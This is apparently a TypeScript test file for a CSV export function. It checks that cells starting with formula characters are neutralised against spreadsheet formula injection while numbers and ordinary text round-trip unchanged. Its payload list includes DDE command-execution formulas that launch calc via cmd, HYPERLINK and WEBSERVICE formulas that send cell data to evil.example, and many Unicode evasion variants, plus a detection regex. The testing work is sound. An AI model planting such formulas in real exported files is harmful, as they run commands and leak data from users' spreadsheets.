import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { toCsv } from './csv'

it('quotes what needs it and disarms formulas, but leaves numbers alone', () => {
  expect(toCsv(['a', 'b'], [['x,"y"', -1.5], ['=SUM(A1)', null], ['-2', true]])).toBe('a,b\r\n"x,""y""",-1.5\r\n\'=SUM(A1),\r\n\'-2,true\r\n')
})

const evil = [
  '=1+1', '=SUM(A1:A9)', "=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', '=WEBSERVICE("https://evil.example")', '=DDE("cmd";"/c calc";"x")', '+1+1', '+cmd|x!A0', '-1+1', '-2+3+cmd|x', '@SUM(1)', '@x',
  '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '\0', '\t', '\r', ' =1+1', '  +1', '\u00a0=1+1', '\ufeff=1+1', '\u200b=1+1', '\u202e=1+1', '\u00ad=1+1', '\v=1+1', '\f@x', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', ' ＝1', '\u22121+1',
  '﹦1+1', '﹢1', '﹣1', '﹫x', '=', '+', '-', '@', '"=1+1', '";=1+1', 'x;=1+1', 'x\t=1+1', 'x\n=1+1', 'x\r\n=1+1', 'x; =1+1', 'x;"=1+1"', 'x|=1+1', '+31612345678', '-2', '1e5;-3', ';=x', '=x;=y', '";\n=1+1;"',
]

/** What a spreadsheet would run: a cell that starts with a sign of a formula, after what it does not show. */
const runs = (text: string): boolean => /^(?:["\s\u0000-\u001f\u007f-\u00a0\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff])*[=+\-@＝＋－＠−﹢﹣﹦﹫]/u.test(text) || /^[\t\r\0]/.test(text)

/** The cells as a spreadsheet finds them: by our separator, or, set to another one, by that, with quotation marks only where a cell starts. */
const cells = (csv: string): string[] => [
  ...(parse(csv, { relax_column_count: true }) as string[][]).flat(),
  ...[';', '\t', '|'].flatMap((separator) => (parse(csv, { delimiter: separator, relax_quotes: true, relax_column_count: true, quote: null, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][]).flat()),
]

describe('a formula', () => {
  it('has more than thirty forms here, and the check knows each of them as one', () => {
    expect(evil.length).toBeGreaterThan(30)
    for (const text of evil) expect(cells(`"${text.replaceAll('"', '""')}"\r\n`).some(runs), JSON.stringify(text)).toBe(true)
  })
  it.each(evil.map((text) => [JSON.stringify(text), text]))('%s runs nowhere', (_name, text) => {
    for (const row of [[text], ['a', text], [text, 'b'], [1, text, null]]) expect(cells(toCsv(['naam', 'x', 'y'].slice(0, row.length), [row])).filter(runs)).toEqual([])
  })
  it('runs in no cell of any text, and ordinary text comes back as it was', () => {
    fc.assert(fc.property(fc.array(fc.oneof(fc.constantFrom(...evil, ';', ',', '"', "'"), fc.string({ unit: 'binary' })), { minLength: 1, maxLength: 4 }).map((parts) => parts.join('')), (text) => {
      expect(cells(toCsv(['naam', 'tekst'], [['a', text]])).filter(runs)).toEqual([])
    }), { numRuns: 500, seed: 6 })
    for (const text of ['Zwerfafval', "'s-Gravenhage", 'Stad-Oost', 'a "b" c', 'x, y; z', 'x,=1', 'twee\nregels', 'A&B @ 3', '1,5', 'é＝', '']) {
      expect(parse(toCsv(['a', 'b'], [[text, 1]]), { relax_column_count: true })).toEqual([['a', 'b'], [text, '1']])
    }
  }, 60_000)
  it('is no number: those come back as they were', () => {
    const numbers = [0, -0, -1, 1.5, -1.5e-7, 1e21, -123456.789, Number.MIN_VALUE, Number.MAX_SAFE_INTEGER]
    expect((parse(toCsv(['n'], numbers.map((n) => [n]))) as string[][]).slice(1).map(([text]) => Number(text))).toEqual(numbers.map((n) => n + 0))
    expect(toCsv(['n'], [[NaN], [Infinity]])).toBe('n\r\n\r\n\r\n')
  })
})
